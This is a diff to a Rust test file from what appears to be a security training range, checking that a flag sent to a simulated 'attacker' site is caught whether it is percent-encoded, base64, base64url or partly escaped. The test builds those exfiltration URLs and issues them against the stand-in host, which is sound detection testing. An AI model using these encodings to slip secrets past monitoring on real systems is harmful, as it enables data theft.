@@ -1,6 +1,6 @@
 //! The attack: it counts against the author's code, wherever the flag turns up.
 
-use data_encoding::BASE64;
+use data_encoding::{BASE64, BASE64URL};
 use percent_encoding::{NON_ALPHANUMERIC, utf8_percent_encode};
 use range::SessionEvent;
 use range::keeper::Deed;
@@ -85,28 +85,26 @@ async fn edited_code_finds_a_decoy_and_the_original_brings_the_flag_back() {
 
 #[tokio::test(flavor = "multi_thread")]
 async fn a_flag_that_reaches_the_attackers_site_is_noticed_however_it_is_written() {
-    let range = range_of(3);
-    for (learner, write) in [
-        (
-            "ada",
-            (|flag| utf8_percent_encode(flag, NON_ALPHANUMERIC).to_string()) as fn(&str) -> String,
-        ),
-        ("bob", |flag| {
-            BASE64.encode(format!("letter={flag};").as_bytes())
+    let range = range_of(4);
+    let carried: [(&str, fn(&str) -> String); 4] = [
+        ("ada", |flag| {
+            format!("/log?q={}", utf8_percent_encode(flag, NON_ALPHANUMERIC))
         }),
-        ("eve", |flag| flag.replace('{', "%7B").replace('}', "%7d")),
-    ] {
+        ("bob", |flag| {
+            format!("/log?q={}", BASE64.encode(format!("letter={flag};").as_bytes()))
+        }),
+        ("eve", |flag| format!("/{}", BASE64URL.encode(flag.as_bytes()))),
+        ("joe", |flag| {
+            format!("/log/{}/", flag.replace('{', "%7B").replace('}', "%7d"))
+        }),
+    ];
+    for (learner, address) in carried {
         let session = start_in(&range, learner, &Memory::new()).await;
         let mut events = session.events();
-        let written = write(&stolen_flag(&session).await);
-        get(
-            &session,
-            "attacker",
-            &format!("/log?nothing={}", "x".repeat(40)),
-        )
-        .await;
+        let address = address(&stolen_flag(&session).await);
+        get(&session, "attacker", &format!("/log?nothing={}", "x".repeat(40))).await;
         assert!(!task_done(&view(&session), "attack"));
-        get(&session, "attacker", &format!("/log?q={written}")).await;
+        get(&session, "attacker", &address).await;
         let message = event(&mut events, "the task", |event| match event {
             SessionEvent::TaskDone { task, message } if task.as_str() == "attack" => {
                 Some(message.clone())
